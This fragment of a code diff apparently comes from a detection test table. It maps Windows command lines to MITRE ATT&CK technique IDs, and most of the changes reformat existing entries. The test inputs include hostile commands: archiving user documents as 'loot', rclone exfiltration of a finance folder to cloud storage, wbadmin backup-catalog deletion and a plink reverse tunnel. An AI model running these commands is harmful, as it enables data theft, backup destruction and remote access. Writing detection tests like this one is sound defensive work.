+            r"powershell Get-LocalGroupMember -Group Administrators",
+            &["T1069.001"],
+            &[],
+        ),
         (r"nmap.exe -sS -p 445 10.0.0.0/24", &["T1046"], &[]),
-        (r"7z.exe a -pInfected1 C:\temp\loot.7z C:\Users\Bob\Documents", &["T1560.001"], &[]),
-        (r"rar.exe a -hpSecret C:\temp\l.rar C:\Finance", &["T1560.001"], &[]),
-        (r"rclone.exe sync C:\Finance mega:backup", &["T1567.002"], &[]),
-        (r"powershell Compress-Archive -Path C:\Users\Bob\Documents -DestinationPath C:\temp\d.zip", &["T1560.001", "T1560"], &[]),
+        (
+            r"7z.exe a -pInfected1 C:\temp\loot.7z C:\Users\Bob\Documents",
+            &["T1560.001"],
+            &[],
+        ),
+        (
+            r"rar.exe a -hpSecret C:\temp\l.rar C:\Finance",
+            &["T1560.001"],
+            &[],
+        ),
+        (
+            r"rclone.exe sync C:\Finance mega:backup",
+            &["T1567.002"],
+            &[],
+        ),
+        (
+            r"powershell Compress-Archive -Path C:\Users\Bob\Documents -DestinationPath C:\temp\d.zip",
+            &["T1560.001", "T1560"],
+            &[],
+        ),
         (r"wbadmin delete catalog -quiet", &["T1490"], &[]),
         (r"shutdown /r /t 0 /f", &["T1529"], &[]),
         (r"powershell Get-Clipboard", &["T1115"], &[]),
-        (r"plink.exe -R 4444:127.0.0.1:3389 user@198.51.100.9", &["T1572"], &[]),
+        (
+            r"plink.exe -R 4444:127.0.0.1:3389 user@198.51.100.9",
+            &["T1572"],
+            &[],
+        ),
     ]);
 }
